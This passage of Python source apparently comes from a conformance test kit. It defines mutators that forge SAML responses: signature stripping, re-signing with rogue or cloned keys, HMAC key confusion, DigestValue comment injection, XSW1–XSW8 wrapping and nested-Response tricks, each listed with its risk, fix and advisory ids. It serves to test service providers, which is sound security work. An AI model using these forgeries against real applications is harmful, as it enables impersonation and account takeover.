"""Hostile SAML responses: small named mutators applied to a genuine Okta response.

Two kinds (``shared/reference/saml.md`` §2.0):

* *validation* cases: the IdP, holding its key, legitimately signs content that is wrong
  (expired, other Audience, unknown InResponseTo …) — :meth:`Mutator.content` changes the
  :class:`ResponseSpec` before signing, for the *victim* (the test user);
* *forgery* cases: an attacker holds a genuine response for their own account (the
  *attacker* NameID) and modifies it after signing, strips the signature, or re-signs with a
  key the app does not trust — :meth:`Mutator.forge` changes the signed bytes. Forged content
  is never re-signed with the trusted key.

Either way the attack wins when the app signs the victim in. Each mutator names the published
advisories of its shape (``references``: CVE and GHSA ids). Mutators compose with
:class:`Chain`. Usable from a plain script::

    kit = Kit.create(idp, victim="ada@example.com", attacker="mallory@example.com")
    xml = apply(XSW3(), base_spec, kit)
"""

from __future__ import annotations

import copy
import datetime as dt
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass, field, replace

from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import rsa
from lxml import etree

from oin_conformance.roles.saml import (
    NS_DS,
    NS_SAML,
    NS_SAMLP,
    STATUS_REQUESTER,
    ExtraTransform,
    ResponseSpec,
    SamlIdp,
    SignMode,
    new_id,
    sign_by_hand,
)
from oin_conformance.state import KeyPair, generate_keypair

A = f"{{{NS_SAML}}}"
P = f"{{{NS_SAMLP}}}"
DS = f"{{{NS_DS}}}"
#: "hours away, not minutes": SPs allow 1-5 minutes of clock skew.
HOURS_AWAY = dt.timedelta(hours=3)
OTHER_SP = "https://other-sp.example"
EVIL_URL = "https://evil.example/phish"
#: The attacker's own domain, appended to the victim's address in truncation attacks.
EVIL_SUFFIX = ".evil.test"


@dataclass(frozen=True)
class Kit:
    """What mutators may use: the IdP, who the attacker is and whom they want to become."""

    idp: SamlIdp
    victim: str
    attacker: str
    rogue: KeyPair
    cloned: KeyPair
    canary_url: str = ""
    #: Each person's attribute statement (name -> values), as Okta would send it for them.
    #: A forgery starts from the attacker's genuine response, attributes included, and
    #: changes NameID *and* attributes to the victim's.
    victim_attributes: Attributes = ()
    attacker_attributes: Attributes = ()

    @classmethod
    def create(
        cls,
        idp: SamlIdp,
        *,
        victim: str,
        attacker: str,
        canary_url: str = "",
        victim_attributes: Mapping[str, Sequence[str]] | None = None,
        attacker_attributes: Mapping[str, Sequence[str]] | None = None,
    ) -> Kit:
        return cls(
            idp=idp,
            victim=victim,
            attacker=attacker,
            rogue=generate_keypair("oin-conformance attacker"),
            cloned=clone_certificate(idp.keypair),
            canary_url=canary_url,
            victim_attributes=_attrs(victim_attributes),
            attacker_attributes=_attrs(attacker_attributes),
        )

    def identity_values(self) -> list[str]:
        """The victim's values that identify them (NameID, and e-mail-like attributes)."""
        values = [self.victim]
        for _, vals in self.victim_attributes:
            values += [v for v in vals if "@" in v and v not in values]
        return values


Attributes = tuple[tuple[str, tuple[str, ...]], ...]


def _attrs(attributes: Mapping[str, Sequence[str]] | None) -> Attributes:
    return tuple((k, tuple(v)) for k, v in (attributes or {}).items())


def clone_certificate(original: KeyPair) -> KeyPair:
    """A new key with a certificate copying the original's subject, issuer, serial, validity."""
    real = original.certificate
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    builder = (
        x509.CertificateBuilder()
        .subject_name(real.subject)
        .issuer_name(real.issuer)
        .public_key(key.public_key())
        .serial_number(real.serial_number)
        .not_valid_before(real.not_valid_before_utc)
        .not_valid_after(real.not_valid_after_utc)
    )
    for ext in real.extensions:
        builder = builder.add_extension(ext.value, critical=ext.critical)
    return KeyPair.from_objects(key, builder.sign(key, hashes.SHA256()))


# --- tree helpers --------------------------------------------------------------------------


def _parse(xml: bytes) -> etree._Element:
    parser = etree.XMLParser(resolve_entities=False, no_network=True, load_dtd=False)
    return etree.fromstring(xml, parser=parser)


def _dump(root: etree._Element) -> bytes:
    return etree.tostring(root)


def _assertion(root: etree._Element) -> etree._Element:
    asrt = root.find(A + "Assertion")
    if asrt is None:
        raise ValueError("the response holds no Assertion")
    return asrt


def _own_signature(el: etree._Element) -> etree._Element | None:
    return el.find(DS + "Signature")


def _become(el: etree._Element, kit: Kit) -> None:
    """Evil values: every NameID under ``el`` names the victim, and every attribute the
    victim has carries the victim's values."""
    for nameid in el.iter(A + "NameID"):
        for child in list(nameid):
            nameid.remove(child)
        nameid.text = kit.victim
    wanted = dict(kit.victim_attributes)
    for attr in el.iter(A + "Attribute"):
        values = wanted.get(attr.get("Name", ""))
        if values is None:
            continue
        old = attr.findall(A + "AttributeValue")
        for extra in old[len(values) :]:
            attr.remove(extra)
        for i, value in enumerate(values):
            if i < len(old):
                for child in list(old[i]):
                    old[i].remove(child)
                old[i].text = value
            else:
                etree.SubElement(attr, A + "AttributeValue").text = value


def _unsigned_copy(el: etree._Element) -> etree._Element:
    clone = copy.deepcopy(el)
    for sig in clone.findall(DS + "Signature"):
        clone.remove(sig)
    return clone


# --- the mutators --------------------------------------------------------------------------


@dataclass(frozen=True)
class Mutator:
    """One attack on a SAML response (``attack``: short name; ``risk``; ``fix``;
    ``references``: the published advisories of its shape, CVE and GHSA ids)."""

    attack: str = ""
    risk: str = ""
    fix: str = ""
    references: tuple[str, ...] = field(default=(), kw_only=True)

    #: True when the attack starts from a genuine response for the attacker's own account.
    @property
    def forgery(self) -> bool:
        return False

    #: Which signatures the genuine response must carry for the attack to mean anything.
    @property
    def needs(self) -> frozenset[str]:
        return frozenset()

    @property
    def relay_state(self) -> str | None:
        return None

    @property
    def replay(self) -> bool:
        return False

    @property
    def summary(self) -> str:
        """One line: what the hostile response is."""
        return (type(self).__doc__ or self.attack).strip().splitlines()[0]

    def applies_to(self, sign_mode: str) -> bool:
        have = {"both": {"response", "assertion"}, "response": {"response"}}.get(
            sign_mode, {"assertion"} if sign_mode == "assertion" else set()
        )
        return self.needs <= have

    def content(self, spec: ResponseSpec, kit: Kit) -> ResponseSpec:
        """Change what the IdP signs (validation cases)."""
        return spec

    def forge(self, xml: bytes, kit: Kit) -> bytes:
        """Change the signed bytes (forgery cases)."""
        return xml


@dataclass(frozen=True)
class _Forgery(Mutator):
    @property
    def forgery(self) -> bool:
        return True


@dataclass(frozen=True)
class _OnSignedAssertion(_Forgery):
    """A forgery that needs Okta's signature on the Assertion."""

    @property
    def needs(self) -> frozenset[str]:
        return frozenset({"assertion"})


@dataclass(frozen=True)
class _OnSignedResponse(_Forgery):
    """A forgery that needs Okta's signature on the Response."""

    @property
    def needs(self) -> frozenset[str]:
        return frozenset({"response"})


@dataclass(frozen=True)
class Chain(Mutator):
    """Several mutators applied in order (content changes, then forgeries)."""

    parts: tuple[Mutator, ...] = ()

    def __post_init__(self) -> None:
        if not self.attack:
            object.__setattr__(self, "attack", "+".join(p.attack for p in self.parts))
            object.__setattr__(self, "risk", " ".join(p.risk for p in self.parts))
            object.__setattr__(self, "fix", " ".join(p.fix for p in self.parts))
        if not self.references:
            refs = dict.fromkeys(r for p in self.parts for r in p.references)
            object.__setattr__(self, "references", tuple(refs))

    @property
    def forgery(self) -> bool:
        return any(p.forgery for p in self.parts)

    @property
    def summary(self) -> str:
        return " Then: ".join(p.summary for p in self.parts)

    @property
    def needs(self) -> frozenset[str]:
        return frozenset().union(*(p.needs for p in self.parts))

    @property
    def relay_state(self) -> str | None:
        return next((p.relay_state for p in self.parts if p.relay_state), None)

    @property
    def replay(self) -> bool:
        return any(p.replay for p in self.parts)

    def content(self, spec: ResponseSpec, kit: Kit) -> ResponseSpec:
        for part in self.parts:
            spec = part.content(spec, kit)
        return spec

    def forge(self, xml: bytes, kit: Kit) -> bytes:
        for part in self.parts:
            xml = part.forge(xml, kit)
        return xml


@dataclass(frozen=True)
class StrippedSignature(_Forgery):
    """The attacker's genuine response with every ds:Signature removed, NameID = victim."""

    attack: str = "stripped_signature"
    risk: str = "Signature exclusion: the app verifies a signature only when one is present."
    fix: str = "Treat a missing signature as a failure, never as 'nothing to verify'."
    references: tuple[str, ...] = field(default=("CVE-2020-12676",), kw_only=True)

    def forge(self, xml: bytes, kit: Kit) -> bytes:
        root = _parse(xml)
        for sig in list(root.iter(DS + "Signature")):
            parent = sig.getparent()
            assert parent is not None
            parent.remove(sig)
        _become(root, kit)
        return _dump(root)


@dataclass(frozen=True)
class TamperedAfterSigning(_Forgery):
    """The attacker's genuine, signed response with the NameID changed to the victim."""

    attack: str = "tampered_after_signing"
    risk: str = "A signed response can be edited: the digest is not checked against the content."
    fix: str = "Verify the signature (digests and SignatureValue) with a real XML-DSig library."

    def forge(self, xml: bytes, kit: Kit) -> bytes:
        root = _parse(xml)
        _become(root, kit)
        return _dump(root)


@dataclass(frozen=True)
class UntrustedKey(Mutator):
    """The victim's response signed by the attacker's own key, its certificate in KeyInfo."""

    attack: str = "untrusted_key"
    risk: str = "The app trusts whatever certificate the response carries in KeyInfo."
    fix: str = "Verify with the IdP certificate configured in the app; ignore KeyInfo."
    references: tuple[str, ...] = field(
        default=("CVE-2024-32962", "GHSA-2xp3-57p7-qf4v"), kw_only=True
    )

    @property
    def forgery(self) -> bool:
        return True

    def content(self, spec: ResponseSpec, kit: Kit) -> ResponseSpec:
        return replace(spec, nameid=kit.victim)

    def forge(self, xml: bytes, kit: Kit) -> bytes:
        return _resign(xml, kit, kit.rogue)


@dataclass(frozen=True)
class ClonedCertificate(UntrustedKey):
    """Re-signed by a new key whose certificate copies the IdP certificate's names and serial."""

    attack: str = "cloned_certificate"
    risk: str = "The app compares certificate names or serials, not the key itself."
    fix: str = "Pin the exact IdP certificate (or its public key / SHA-256 fingerprint)."
    references: tuple[str, ...] = field(default=(), kw_only=True)

    def forge(self, xml: bytes, kit: Kit) -> bytes:
        return _resign(xml, kit, kit.cloned)


def _resign(
    xml: bytes,
    kit: Kit,
    key: KeyPair | None,
    hmac_key: bytes | None = None,
    *,
    key_value: bool = False,
) -> bytes:
    """Throw away the genuine signatures and sign again with ``key`` (never the IdP's);
    ``key_value``: KeyInfo carries the bare public key instead of a certificate."""
    from oin_conformance.roles.saml import sign_response

    if key is not None:
        assert key.key_pem != kit.idp.keypair.key_pem, "forged content is never IdP-signed"
    root = _parse(xml)
    signed = {"response": _own_signature(root) is not None}
    asrt = _assertion(root)
    signed["assertion"] = _own_signature(asrt) is not None
    for sig in list(root.iter(DS + "Signature")):
        parent = sig.getparent()
        assert parent is not None
        parent.remove(sig)
    _become(root, kit)
    mode = "both" if all(signed.values()) else "response" if signed["response"] else "assertion"
    return sign_response(
        root,
        mode,  # type: ignore[arg-type]
        key.private_key if key else "",  # loaded once per key pair, not once per signature
        None if key_value or not key else [key.certificate],
        hmac_key=hmac_key,
    )


@dataclass(frozen=True)
class OtherTenant(UntrustedKey):
    """A response from another Okta org (its own issuer and key) naming the victim."""

    attack: str = "other_tenant"
    risk: str = "An admin of any Okta org can sign users in to this app's tenant."
    fix: str = "Bind each tenant to its own IdP entity ID and certificate; check both."
    references: tuple[str, ...] = field(default=(), kw_only=True)

    def content(self, spec: ResponseSpec, kit: Kit) -> ResponseSpec:
        return replace(spec, nameid=kit.victim, issuer="http://www.okta.com/exkOtherTenant0000001")


@dataclass(frozen=True)
class HmacKeyConfusion(_Forgery):
    """Re-signed with HMAC-SHA256, the HMAC key being the IdP's public certificate (PEM)."""

    attack: str = "hmac_key_confusion"
    risk: str = (
        "Algorithm confusion: a verifier that takes the algorithm from the message uses the "
        "public certificate as an HMAC secret, which anyone has."
    )
    fix: str = "Accept only the RSA signature algorithm you expect (rsa-sha256); never HMAC."
    references: tuple[str, ...] = field(default=("GHSA-c27r-x354-4m68",), kw_only=True)

    def forge(self, xml: bytes, kit: Kit) -> bytes:
        return _resign(xml, kit, None, hmac_key=self.hmac_key(kit))

    def hmac_key(self, kit: Kit) -> bytes:
        """The public bytes used as the HMAC secret: the certificate, as PEM."""
        return kit.idp.cert_pem.encode()


@dataclass(frozen=True)
class HmacKeyConfusionBase64(HmacKeyConfusion):
    """Re-signed with HMAC-SHA256, the HMAC key being the IdP certificate as one line of
    base64 (the form Okta's admin UI and metadata show, pasted into the app's settings)."""

    attack: str = "hmac_key_confusion_base64"

    def hmac_key(self, kit: Kit) -> bytes:
        return kit.idp.keypair.cert_b64.encode()


@dataclass(frozen=True)
class HmacKeyConfusionDer(HmacKeyConfusion):
    """Re-signed with HMAC-SHA256, the HMAC key being the IdP certificate's DER bytes."""

    attack: str = "hmac_key_confusion_der"

    def hmac_key(self, kit: Kit) -> bytes:
        from cryptography.hazmat.primitives.serialization import Encoding

        return kit.idp.keypair.certificate.public_bytes(Encoding.DER)


@dataclass(frozen=True)
class HmacKeyConfusionPublicKey(HmacKeyConfusion):
    """Re-signed with HMAC-SHA256, the HMAC key being the IdP's public key as PEM
    (SubjectPublicKeyInfo, ``-----BEGIN PUBLIC KEY-----``)."""

    attack: str = "hmac_key_confusion_public_key"

    def hmac_key(self, kit: Kit) -> bytes:
        from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

        public = kit.idp.keypair.certificate.public_key()
        return public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)


@dataclass(frozen=True)
class KeyValueKey(UntrustedKey):
    """The victim's response signed by the attacker's own key, carried only as
    ``ds:KeyValue/ds:RSAKeyValue`` (no certificate) in KeyInfo."""

    attack: str = "keyvalue_key"
    risk: str = (
        "The app's verifier takes the key from the message's KeyInfo (a bare public key), "
        "so anyone signs for anyone."
    )
    fix: str = (
        "Verify with the IdP certificate configured in the app only; restrict the key data "
        "your XML-DSig library reads from a message to none (xmlsec1: --enabled-key-data x509 "
        "and a trusted certificate), or upgrade the SAML library."
    )
    references: tuple[str, ...] = field(
        default=("CVE-2021-21239", "GHSA-5p3x-r448-pc62"), kw_only=True
    )

    def forge(self, xml: bytes, kit: Kit) -> bytes:
        return _resign(xml, kit, kit.rogue, key_value=True)


#: xmlsec's own key data for an HMAC secret carried in KeyInfo.
NS_XMLSEC = "http://www.aleksey.com/xmlsec/2002"


@dataclass(frozen=True)
class HmacKeyInMessage(_Forgery):
    """Re-signed with HMAC-SHA256 by a secret the attacker chose, carried in KeyInfo as
    ``ds:KeyValue/<HMACKeyValue xmlns="http://www.aleksey.com/xmlsec/2002">`` (xmlsec's key
    data for an HMAC secret)."""

    attack: str = "hmac_key_in_message"
    risk: str = (
        "The app's verifier takes an HMAC key from the message itself (xmlsec1 reads every "
        "kind of key data by default), so anyone signs for anyone."
    )
    fix: str = KeyValueKey.fix + " Accept only rsa-sha256 signatures."
    references: tuple[str, ...] = field(
        default=("CVE-2021-21239", "GHSA-5p3x-r448-pc62"), kw_only=True
    )

    def forge(self, xml: bytes, kit: Kit) -> bytes:
        import base64
        import secrets

        from oin_conformance.roles.saml import sign_response

        secret = secrets.token_bytes(32)
        root, signed = _without_signatures(_parse(xml))
        _become(root, kit)
        # The assertion first, its KeyInfo added before the Response signature covers it.
        order: tuple[SignMode, ...] = ("assertion", "response")
        for mode in order:
            if mode not in signed:
                continue
            root = _parse(sign_response(root, mode, "", None, hmac_key=secret))
            sig = _own_signature(_assertion(root) if mode == "assertion" else root)
            assert sig is not None
            key_value = etree.SubElement(etree.SubElement(sig, DS + "KeyInfo"), DS + "KeyValue")
            value = etree.SubElement(
                key_value, f"{{{NS_XMLSEC}}}HMACKeyValue", nsmap={None: NS_XMLSEC}
            )
            value.text = base64.b64encode(secret).decode()
        return _dump(root)


@dataclass(frozen=True)
class CommentInDigestValue(_Forgery):
    """NameID changed to the victim; each DigestValue starts with a comment holding the
    digest of the changed element, followed by the genuine digest (xml-crypto
    CVE-2025-29775: the verifier reads the comment, c14n of SignedInfo drops it)."""

    attack: str = "comment_in_digest_value"
    risk: str = "The digest check reads a comment, so edited content passes as signed."
    fix: str = "Use a maintained XML-DSig library (xmlsec); read DigestValue as its text content."
    references: tuple[str, ...] = field(
        default=("CVE-2025-29775", "GHSA-x3m8-899r-f7c3"), kw_only=True
    )

    def forge(self, xml: bytes, kit: Kit) -> bytes:
        import base64
        import hashlib

        root = _parse(xml)
        asrt = _assertion(root)
        _become(asrt, kit)
        for element in (asrt, root):  # inner signature first: the outer digest covers it
            sig = _own_signature(element)
            if sig is None:
                continue
            digest_el = sig.find(f"{DS}SignedInfo/{DS}Reference/{DS}DigestValue")
            assert digest_el is not None
            # The enveloped-signature transform, in place (a copy loses xmlns:xs).
            index = element.index(sig)
            element.remove(sig)
            c14n = etree.tostring(
                element,
                method="c14n",
                exclusive=True,
                with_comments=False,
                inclusive_ns_prefixes=["xs"],
            )
            element.insert(index, sig)
            forged = base64.b64encode(hashlib.sha256(c14n).digest()).decode()
            genuine = digest_el.text or ""
            digest_el.text = None
            comment = etree.Comment(forged)
            comment.tail = genuine
            digest_el.append(comment)
        return _dump(root)


# XML Signature Wrapping, as SAML Raider builds the variants (reference §2.1).


@dataclass(frozen=True)
class XSW1(_OnSignedResponse):
    """An unsigned clone of the Response inside its Signature; the outer one evil, new ID."""

    attack: str = "xsw1"
    risk: str = (
        "Signature wrapping: the signature verifies a hidden copy, the app reads the outer one."
    )
    fix: str = (
        "Read the assertion only from the element the verified signature references, "
        "expect exactly one Assertion, and reject duplicate or nested signed elements."
    )

    def forge(self, xml: bytes, kit: Kit) -> bytes:
        root = _parse(xml)
        sig = _own_signature(root)
        assert sig is not None
        clone = _unsigned_copy(root)
        self._place(root, sig, clone)
        root.set("ID", new_id())
        _become(_assertion(root), kit)
        return _dump(root)

    def _place(self, root: etree._Element, sig: etree._Element, clone: etree._Element) -> None:
        sig.append(clone)


@dataclass(frozen=True)
class XSW2(XSW1):
    """Like XSW1, with the unsigned clone placed just before the Signature (detached)."""

    attack: str = "xsw2"

    def _place(self, root: etree._Element, sig: etree._Element, clone: etree._Element) -> None:
        sig.addprevious(clone)


@dataclass(frozen=True)
class XSW3(_OnSignedAssertion):
    """An evil Assertion clone (new ID, unsigned) placed before the genuine Assertion."""

    attack: str = "xsw3"
    risk: str = XSW1.risk
    fix: str = XSW1.fix

    def forge(self, xml: bytes, kit: Kit) -> bytes:
        root = _parse(xml)
        asrt = _assertion(root)
        evil = _unsigned_copy(asrt)
        evil.set("ID", new_id())
        _become(evil, kit)
        self._place(root, asrt, evil)
        return _dump(root)

    def _place(self, root: etree._Element, asrt: etree._Element, evil: etree._Element) -> None:
        asrt.addprevious(evil)


@dataclass(frozen=True)
class XSW4(XSW3):
    """An evil Assertion appended to the Response, the genuine Assertion moved inside it."""

    attack: str = "xsw4"

    def _place(self, root: etree._Element, asrt: etree._Element, evil: etree._Element) -> None:
        root.remove(asrt)
        evil.append(asrt)
        root.append(evil)


@dataclass(frozen=True)
class XSW5(_OnSignedAssertion):
    """Genuine Assertion made evil in place (new ID); an unsigned untouched copy appended."""

    attack: str = "xsw5"
    risk: str = XSW1.risk
    fix: str = XSW1.fix

    def forge(self, xml: bytes, kit: Kit) -> bytes:
        root = _parse(xml)
        asrt = _assertion(root)
        original = _unsigned_copy(asrt)
        self._evil(asrt, kit)
        sig = _own_signature(asrt)
        assert sig is not None
        self._place(root, asrt, sig, original)
        return _dump(root)

    def _evil(self, asrt: etree._Element, kit: Kit) -> None:
        asrt.set("ID", new_id())
        _become(asrt, kit)

    def _place(
        self,
        root: etree._Element,
        asrt: etree._Element,
        sig: etree._Element,
        original: etree._Element,
    ) -> None:
        root.append(original)


@dataclass(frozen=True)
class XSW6(XSW5):
    """Like XSW5, with the untouched copy inside the genuine Assertion's Signature."""

    attack: str = "xsw6"

    def _place(
        self,
        root: etree._Element,
        asrt: etree._Element,
        sig: etree._Element,
        original: etree._Element,
    ) -> None:
        sig.append(original)


@dataclass(frozen=True)
class XSW7(XSW3):
    """An Extensions element before the Assertion holding an evil clone with the same ID."""

    attack: str = "xsw7"

    def forge(self, xml: bytes, kit: Kit) -> bytes:
        root = _parse(xml)
        asrt = _assertion(root)
        evil = _unsigned_copy(asrt)
        _become(evil, kit)
        ext = etree.Element(P + "Extensions")
        ext.append(evil)
        asrt.addprevious(ext)
        return _dump(root)


@dataclass(frozen=True)
class XSW8(XSW5):
    """Evil values in place (same ID); the untouched copy inside a new Object in the Signature."""

    attack: str = "xsw8"

    def _evil(self, asrt: etree._Element, kit: Kit) -> None:
        _become(asrt, kit)

    def _place(
        self,
        root: etree._Element,
        asrt: etree._Element,
        sig: etree._Element,
        original: etree._Element,
    ) -> None:
        obj = etree.SubElement(sig, DS + "Object")
        obj.append(original)


@dataclass(frozen=True)
class WithoutResponseSignature(_Forgery):
    """Okta signed both: the Response's own signature is removed first, so an app that checks
    only the first signature it finds checks the Assertion's (then the wrapping follows)."""

    attack: str = "without_response_signature"
    risk: str = XSW1.risk
    fix: str = XSW1.fix

    @property
    def needs(self) -> frozenset[str]:
        return frozenset({"response", "assertion"})

    def forge(self, xml: bytes, kit: Kit) -> bytes:
        root = _parse(xml)
        sig = _own_signature(root)
        if sig is not None:
            root.remove(sig)
        return _dump(root)


def _unwrapped(inner: Mutator) -> Chain:
    """``inner`` sent with the outer Response signature removed first (Okta signs both)."""
    return Chain(
        parts=(WithoutResponseSignature(), inner),
        attack=f"{inner.attack}_without_response_signature",
        risk=inner.risk,
        fix=inner.fix,
    )


def _drop_response_signature(root: etree._Element) -> None:
    """Remove the Response's own signature, which a forgery inside it would break first
    (when Okta signs both, an attacker drops it: an app that requires it refuses anyway)."""
    sig = _own_signature(root)
    if sig is not None:
        root.remove(sig)


def _by_id(root: etree._Element, element_id: str) -> etree._Element:
    for el in root.iter():
        if el.get("ID") == element_id:
            return el
    raise ValueError(f"no element with ID {element_id!r}")


def _digest(root: etree._Element, element_id: str) -> str:
    """The SHA-256 DigestValue an enveloped, exclusive-c14n (``PrefixList="xs"``) Reference
    to ``element_id`` carries for the document as it is now (parsed again first: lxml's c14n
    of a tree changed in memory can lose namespace declarations)."""
    import base64
    import hashlib

    el = _by_id(_parse(_dump(root)), element_id)
    sig = _own_signature(el)
    if sig is not None:
        el.remove(sig)
    c14n = etree.tostring(
        el, method="c14n", exclusive=True, with_comments=False, inclusive_ns_prefixes=["xs"]
    )
    return base64.b64encode(hashlib.sha256(c14n).digest()).decode()


def _extensions(root: etree._Element) -> etree._Element:
    """The Response's ``samlp:Extensions`` (made where the schema puts it: before Status)."""
    ext = root.find(P + "Extensions")
    if ext is None:
        ext = etree.Element(P + "Extensions")
        status = root.find(P + "Status")
        assert status is not None
        status.addprevious(ext)
    return ext


@dataclass(frozen=True)
class ExtraUnsignedAssertionBefore(_OnSignedAssertion):
    """The attacker's genuine signed Assertion, and before it an unsigned Assertion for the
    victim (new ID); the Response signature, if any, removed."""

    attack: str = "extra_unsigned_assertion_before"
    risk: str = (
        "The app verifies the signed assertion but reads another one: the first in the "
        "document, or every one in turn."
    )
    fix: str = (
        "Require exactly one Assertion and read it only from what the verified signature "
        "covers; refuse a Response with any other."
    )
    references: tuple[str, ...] = field(default=("CVE-2026-89043",), kw_only=True)

    def forge(self, xml: bytes, kit: Kit) -> bytes:
        root = _parse(xml)
        _drop_response_signature(root)
        asrt = _assertion(root)
        evil = _unsigned_copy(asrt)
        evil.set("ID", new_id())
        _become(evil, kit)
        self._place(asrt, evil)
        return _dump(root)

    def _place(self, asrt: etree._Element, evil: etree._Element) -> None:
        asrt.addprevious(evil)


@dataclass(frozen=True)
class ExtraUnsignedAssertionAfter(ExtraUnsignedAssertionBefore):
    """The attacker's genuine signed Assertion, and after it an unsigned Assertion for the
    victim (new ID); the Response signature, if any, removed."""

    attack: str = "extra_unsigned_assertion_after"
    references: tuple[str, ...] = field(
        default=("CVE-2022-41912", "GHSA-j2jp-wvqg-wc2g"), kw_only=True
    )

    def _place(self, asrt: etree._Element, evil: etree._Element) -> None:
        asrt.addnext(evil)


@dataclass(frozen=True)
class DuplicateIds(ExtraUnsignedAssertionBefore):
    """Two Assertions with the signed ID: an unsigned one for the victim, then the
    attacker's genuine signed one; the Response signature, if any, removed."""

    attack: str = "duplicate_ids"
    risk: str = (
        "The verifier resolves the signed ID to one element and the app reads the other: "
        "an ID lookup that keeps the last element of an ID, a reader that takes the first."
    )
    fix: str = (
        "Refuse a document in which an ID occurs twice, and read only the element the "
        "verified signature covers."
    )
    references: tuple[str, ...] = field(default=(), kw_only=True)

    def forge(self, xml: bytes, kit: Kit) -> bytes:
        root = _parse(xml)
        _drop_response_signature(root)
        asrt = _assertion(root)
        evil = _unsigned_copy(asrt)
        _become(evil, kit)
        asrt.addprevious(evil)
        return _dump(root)


@dataclass(frozen=True)
class SignedResponseNested(_OnSignedResponse):
    """A new Response (new ID, unsigned) whose first child is the attacker's genuine signed
    Response, intact, and which carries an unsigned Assertion for the victim."""

    attack: str = "signed_response_nested"
    risk: str = (
        "The verifier checks a signature somewhere in the document (the nested genuine "
        "Response) and the app reads the outer Response's assertion."
    )
    fix: str = (
        "Verify the signature of the document's root Response (or of the Assertion you read) "
        "and validate the message against the SAML schema; refuse nested Responses."
    )
    references: tuple[str, ...] = field(default=("CVE-2021-21238",), kw_only=True)

    def forge(self, xml: bytes, kit: Kit) -> bytes:
        genuine = _parse(xml)
        outer = copy.deepcopy(genuine)
        for sig in list(outer.iter(DS + "Signature")):
            parent = sig.getparent()
            assert parent is not None
            parent.remove(sig)
        outer.set("ID", new_id())
        evil = _assertion(outer)
        evil.set("ID", new_id())
        _become(evil, kit)
        outer.insert(0, genuine)
        return _dump(outer)


@dataclass(frozen=True)
class SignedResponseNestedFirstSignature(SignedResponseNested):
    """As ``signed_response_nested``, but the outer Response also carries a copy of the
    genuine signature, its Reference renamed to the outer ID (the shape of pysaml2's own
    CVE-2021-21238 test, ``signed-xsw-response-in-response-first-sig.xml``): a verifier asked
    to check the outer Response that verifies the first signature it finds in it (xmlsec1
    ``--node-id``) checks the nested genuine one."""

    attack: str = "signed_response_nested_first_signature"
    risk: str = (
        "The verifier checks the first signature inside the Response (the nested genuine "
        "one), not the Response's own, and the app reads the outer Response's assertion."
    )
    references: tuple[str, ...] = field(
        default=("CVE-2021-21238", "GHSA-f4g9-h89h-jgv9"), kw_only=True
    )

    def forge(self, xml: bytes, kit: Kit) -> bytes:
        outer = _parse(super().forge(xml, kit))
        genuine = outer[0]
        genuine_sig = _own_signature(genuine)
        assert genuine_sig is not None, "needs Okta's Response signature"
        claimed = copy.deepcopy(genuine_sig)
        for ref in claimed.iter(DS + "Reference"):
            ref.set("URI", f"#{outer.get('ID')}")
        issuer = outer.find(A + "Issuer")
        outer.insert(0 if issuer is None else outer.index(issuer) + 1, claimed)
        return _dump(outer)


@dataclass(frozen=True)
class ResponseInAdvice(_OnSignedResponse):
    """The attacker's genuine signed Response (original ID, signature intact) hidden in the
    ``saml2:Advice`` of a new, unsigned Assertion for the victim; the outer Response gets a
    new ID and keeps a copy of the genuine Response signature (which names the hidden one)."""

    attack: str = "response_in_advice"
    risk: str = (
        "The verifier looks up the signature's Reference anywhere in the document (it finds "
        "the hidden genuine Response) and the app reads the outer Response's assertion."
    )
    fix: str = (
        "Require the Reference of the Response signature to name the root Response itself, "
        "and read the assertion only from the verified, signed bytes."
    )
    references: tuple[str, ...] = field(
        default=("CVE-2025-47949", "GHSA-r683-v43c-6xqv"), kw_only=True
    )

    def forge(self, xml: bytes, kit: Kit) -> bytes:
        genuine = _parse(xml)
        outer = copy.deepcopy(genuine)
        outer.set("ID", new_id())
        evil = _assertion(outer)
        for sig in evil.findall(DS + "Signature"):
            evil.remove(sig)
        evil.set("ID", new_id())
        _become(evil, kit)
        advice = etree.Element(A + "Advice")
        advice.append(genuine)
        conditions = evil.find(A + "Conditions")
        assert conditions is not None
        conditions.addnext(advice)
        return _dump(outer)


@dataclass(frozen=True)
class SeveralRoots(_OnSignedAssertion):
    """Not well-formed XML: the attacker's genuine signed Assertion as a first top-level
    element, then a second one, a Response with an unsigned Assertion for the victim."""

    attack: str = "several_roots"
    risk: str = (
        "A lenient parser accepts several top-level elements: the app checks the signature of "
        "the first (the genuine Assertion) and reads the Response that follows."
    )
    fix: str = (
        "Parse with a strict XML parser that refuses more than one root element, and read "
        "only what the verified signature covers."
    )
    references: tuple[str, ...] = field(
        default=("CVE-2022-39299", "GHSA-m974-647v-whv7", "GHSA-5p8w-2mvw-38pv"), kw_only=True
    )

    def forge(self, xml: bytes, kit: Kit) -> bytes:
        root = _parse(xml)
        signed = _dump(_parse(_dump(_assertion(root))))
        _drop_response_signature(root)
        root.set("ID", new_id())
        evil = _assertion(root)
        for sig in evil.findall(DS + "Signature"):
            evil.remove(sig)
        evil.set("ID", new_id())
        _become(evil, kit)
        return signed + _dump(root)


@dataclass(frozen=True)
class SecondSignedInfo(_OnSignedAssertion):
    """The genuine Assertion signature, moved onto an Assertion for the victim (new ID), with
    a second ``ds:SignedInfo`` after the genuine one whose Reference names the victim's
    Assertion (with its digest); the genuine Assertion, unsigned, kept in
    ``samlp:Extensions``; the Response signature, if any, removed."""

    attack: str = "second_signed_info"
    risk: str = (
        "The verifier checks the SignatureValue over one SignedInfo and the digests of the "
        "References of every SignedInfo in the Signature, so a Reference the IdP never signed "
        "vouches for the victim's assertion."
    )
    fix: str = (
        "Refuse a Signature with more than one SignedInfo, use only the References of the "
        "SignedInfo the SignatureValue covers, or upgrade the XML-DSig library."
    )
    references: tuple[str, ...] = field(
        default=("CVE-2025-29774", "GHSA-9p8x-f768-wp2g"), kw_only=True
    )

    def forge(self, xml: bytes, kit: Kit) -> bytes:
        root = _parse(xml)
        _drop_response_signature(root)
        asrt = _assertion(root)
        _extensions(root).append(_unsigned_copy(asrt))
        evil_id = new_id()
        asrt.set("ID", evil_id)
        _become(asrt, kit)
        sig = _own_signature(asrt)
        assert sig is not None
        genuine = sig.find(DS + "SignedInfo")
        assert genuine is not None
        forged = copy.deepcopy(genuine)
        ref = forged.find(DS + "Reference")
